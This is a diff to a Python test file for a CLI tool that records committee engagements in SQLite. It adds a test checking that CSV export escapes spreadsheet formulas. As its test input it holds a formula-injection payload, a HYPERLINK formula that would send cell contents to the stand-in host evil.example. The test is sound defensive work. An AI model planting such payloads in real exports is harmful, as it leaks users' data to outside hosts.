@@ -94,3 +94,18 @@ def test_output_a_narrow_console_cannot_encode_does_not_lose_the_row(
     assert "Zoë Ní Bhriain — 薬局 review" in printed and "·" in printed
     with sqlite3.connect(database) as connection:
         assert connection.execute("SELECT count(*) FROM engagement").fetchone() == (1,)
+
+
+def test_csv_output_never_hands_a_spreadsheet_a_formula(
+    sqlite_template: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    database = backup_sqlite(sqlite_template, tmp_path / "lpc.sqlite3")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Minutes")'
+    args = ["--database", str(database), "log", "add", "--committee", "CP Lancashire"]
+    args += ["--date", "2026-11-02", "--area", "QE1", "--kind", "meeting", "--title", hostile]
+    assert main(args) == 0
+    capsys.readouterr()
+    assert main(["--database", str(database), "list", "--format", "csv"]) == 0
+    out = capsys.readouterr().out
+    assert "'" + hostile.replace('"', '""') in out
+    assert ',"=HYPERLINK' not in out and ",=HYPERLINK" not in out
